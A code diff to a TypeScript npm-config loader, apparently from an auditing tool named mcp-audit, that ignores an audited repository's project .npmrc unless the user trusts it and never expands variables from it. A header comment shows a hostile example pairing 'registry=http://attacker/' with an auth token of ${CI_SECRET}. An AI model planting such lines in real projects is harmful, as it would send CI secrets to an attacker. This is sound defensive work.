@@ -3,6 +3,12 @@
 // Precedence, highest first: environment (`npm_config_*`), project `.npmrc`, user `.npmrc`
 // (`$npm_config_userconfig` or `~/.npmrc`), global `npmrc` (`$npm_config_globalconfig` or
 // `<prefix>/etc/npmrc`). Never executes anything; a file that cannot be read is skipped.
+//
+// The project `.npmrc` belongs to the repository being audited, which must not steer mcp-audit: left
+// alone, `registry=http://attacker/` plus `//attacker/:_authToken=${CI_SECRET}` would send a CI secret
+// to the attacker on the first lookup. So it is not used unless the user trusts it
+// (--trust-project-npmrc, or MCP_AUDIT_TRUST_PROJECT_NPMRC=1 in the environment), a notice says what
+// was ignored, and variables are never expanded from it, trusted or not.
 import fs from "node:fs";
 import os from "node:os";
 import path from "node:path";
@@ -31,6 +37,9 @@ const RETRY_KEYS: Record<string, "retries" | "factor" | "minTimeout" | "maxTimeo
 };
 const AUTH_SUFFIXES = [":_authToken", ":_auth", ":username", ":_password", ":certfile", ":keyfile", ":always-auth"];
 
+/** The environment variable that trusts project .npmrc files (a user-level setting, like --trust-project-npmrc). */
+export const TRUST_PROJECT_NPMRC_ENV = "MCP_AUDIT_TRUST_PROJECT_NPMRC";
+
 export interface NpmSettings {
   /** Options for npm-registry-fetch (contains credentials: never print it). */
   options: Record<string, unknown>;
@@ -44,6 +53,8 @@ export interface NpmSettings {
   timeout?: number;
   /** The files that were read, in precedence order (lowest first). */
   files: string[];
+  /** One line each: a project .npmrc that was ignored, or settings of a trusted one left out. */
+  notices: string[];
 }
 
 export interface NpmConfigInput {
@@ -52,12 +63,18 @@ export interface NpmConfigInput {
   env: NodeJS.ProcessEnv;
   /** Home directory (default: `HOME`/`USERPROFILE` from env, else the OS's). */
   home?: string;
+  /** Use the project .npmrc (default: only when MCP_AUDIT_TRUST_PROJECT_NPMRC is set to 1 or true). */
+  trustProject?: boolean;
 }
 
 type Raw = Map<string, string | string[]>;
 
-/** `key = value`, `key[] = value`, `;`/`#` comments, quoted values, `${VAR}` from the environment. */
-export function parseNpmrc(text: string, env: NodeJS.ProcessEnv): Raw {
+/**
+ * `key = value`, `key[] = value`, `;`/`#` comments, quoted values, `${VAR}` from the environment.
+ * Without `env` (a project file) nothing is expanded: a line naming a variable is left out, and
+ * `onUnexpanded` hears its key.
+ */
+export function parseNpmrc(text: string, env: NodeJS.ProcessEnv | undefined, onUnexpanded?: (key: string) => void): Raw {
   const out: Raw = new Map();
   for (const rawLine of text.split(/\r?\n/)) {
     const line = rawLine.trim();
@@ -67,20 +84,31 @@ export function parseNpmrc(text: string, env: NodeJS.ProcessEnv): Raw {
     let key = line.slice(0, eq).trim();
     let value = line.slice(eq + 1).trim();
     if (/^".*"$/.test(value) || /^'.*'$/.test(value)) value = value.slice(1, -1);
+    if (env === undefined) {
+      if (/\$\{/.test(key) || /\$\{/.test(value)) {
+        onUnexpanded?.(key);
+        continue;
+      }
+      setValue(out, key, value);
+      continue;
+    }
     const expandedKey = expandEnv(key, env);
     const expanded = expandEnv(value, env);
     // npm refuses a value naming an unset variable; here the setting is just left out.
     if (expandedKey === undefined || expanded === undefined) continue;
-    key = expandedKey;
-    if (key.endsWith("[]")) {
-      const name = key.slice(0, -2);
-      const list = out.get(name);
-      out.set(name, [...(Array.isArray(list) ? list : list === undefined ? [] : [list]), expanded]);
-    } else {
-      out.set(key, expanded);
-    }
+    setValue(out, expandedKey, expanded);
   }
   return out;
+}
+
+function setValue(out: Raw, key: string, value: string): void {
+  if (key.endsWith("[]")) {
+    const name = key.slice(0, -2);
+    const list = out.get(name);
+    out.set(name, [...(Array.isArray(list) ? list : list === undefined ? [] : [list]), value]);
+  } else {
+    out.set(key, value);
+  }
 }
 
 /** `${VAR}` -> its value; `${VAR?}` -> its value or ""; undefined when a required variable is unset. */
@@ -95,12 +123,43 @@ function expandEnv(text: string, env: NodeJS.ProcessEnv): string | undefined {
   return missing ? undefined : result;
 }
 
-function readIfPresent(file: string, env: NodeJS.ProcessEnv): Raw | undefined {
+function readIfPresent(file: string, env: NodeJS.ProcessEnv | undefined, onUnexpanded?: (key: string) => void): Raw | undefined {
+  let text: string;
   try {
-    return parseNpmrc(fs.readFileSync(file, "utf8"), env);
+    text = fs.readFileSync(file, "utf8");
   } catch {
     return undefined;
   }
+  return parseNpmrc(text, env, onUnexpanded);
+}
+
+/** What a setting controls, in words for the notice (the key itself may come from a hostile file). */
+function settingKind(key: string): string | undefined {
+  if (key === "registry") return "the registry";
+  if (/^@[^/:]+:registry$/.test(key)) return "scoped registries";
+  if (key.startsWith("//") && AUTH_SUFFIXES.some((s) => key.endsWith(s))) return "credentials";
+  if (key === "proxy" || key === "https-proxy" || key === "noproxy" || key === "no-proxy") return "a proxy";
+  if (key === "ca" || key === "cafile" || key === "cert" || key === "key" || key === "strict-ssl") return "TLS settings";
+  if (key in PLAIN_KEYS || key in RETRY_KEYS || key === "fetch-timeout") return "network settings";
+  return undefined;
+}
+
+function kindsOf(keys: Iterable<string>): string[] {
+  const order = ["the registry", "scoped registries", "credentials", "a proxy", "TLS settings", "network settings"];
+  const kinds = new Set<string>();
+  for (const key of keys) {
+    const kind = settingKind(key.endsWith("[]") ? key.slice(0, -2) : key);
+    if (kind) kinds.add(kind);
+  }
+  return order.filter((k) => kinds.has(k));
+}
+
+function andList(items: readonly string[]): string {
+  return items.length <= 1 ? (items[0] ?? "") : `${items.slice(0, -1).join(", ")} and ${items[items.length - 1]}`;
+}
+
+function isTruthy(value: string | undefined): boolean {
+  return value !== undefined && /^(1|true|yes|on)$/i.test(value.trim());
 }
 
 /** npm's "local prefix": the nearest folder holding package.json or node_modules, else cwd. */
@@ -142,15 +201,36 @@ export function loadNpmSettings(input: NpmConfigInput): NpmSettings {
   const globalFile = at("globalconfig") ?? path.join(prefix, "etc", "npmrc");
   const userFile = at("userconfig") ?? path.join(home, ".npmrc");
   const projectFile = path.join(localPrefix(input.cwd), ".npmrc");
+  const trustProject = input.trustProject ?? isTruthy(env[TRUST_PROJECT_NPMRC_ENV]);
 
   const layers: Raw[] = [];
   const files: string[] = [];
-  for (const file of [globalFile, userFile, projectFile]) {
+  const notices: string[] = [];
+  // The user's own files (global, user) may use ${VAR}: the user wrote them for this machine.
+  for (const file of [globalFile, userFile]) {
     if (files.includes(file)) continue;
     const raw = readIfPresent(file, env);
     if (raw) {
       layers.push(raw);
       files.push(file);
+    }
+  }
+  if (!files.includes(projectFile) && projectFile !== globalFile && projectFile !== userFile) {
+    const shown = shownPath(projectFile, input.cwd);
+    const unexpanded: string[] = [];
+    const raw = readIfPresent(projectFile, undefined, (key) => unexpanded.push(key));
+    if (raw && trustProject) {
+      layers.push(raw);
+      files.push(projectFile);
+      const kinds = kindsOf(unexpanded);
+      if (kinds.length > 0) {
+        notices.push(`${shown} (trusted) names environment variables, which are never expanded from a project .npmrc: its ${andList(kinds)} lines that use them were left out (set them in your user .npmrc or npm_config_* variables)`);
+      }
+    } else if (raw) {
+      const kinds = kindsOf([...raw.keys(), ...unexpanded]);
+      if (kinds.length > 0) {
+        notices.push(`ignored ${andList(kinds)} set in the project's ${shown}: a scanned repository does not choose where mcp-audit connects or what it sends; your user and global npm config were used (trust the project's .npmrc with --trust-project-npmrc or ${TRUST_PROJECT_NPMRC_ENV}=1)`);
+      }
     }
   }
   // npm's defaults for the proxy settings come from the usual environment variables.
@@ -217,7 +297,14 @@ export function loadNpmSettings(input: NpmConfigInput): NpmSettings {
     retry,
     ...(timeout !== undefined ? { timeout } : {}),
     files,
+    notices,
   };
+}
+
+/** A file as the notice names it: relative to where mcp-audit runs when inside it. */
+function shownPath(file: string, cwd: string): string {
+  const rel = path.relative(path.resolve(cwd), file);
+  return (rel === "" || rel.startsWith("..") || path.isAbsolute(rel) ? file : rel).split(path.sep).join("/");
 }
 
 function withSlash(url: string): string {
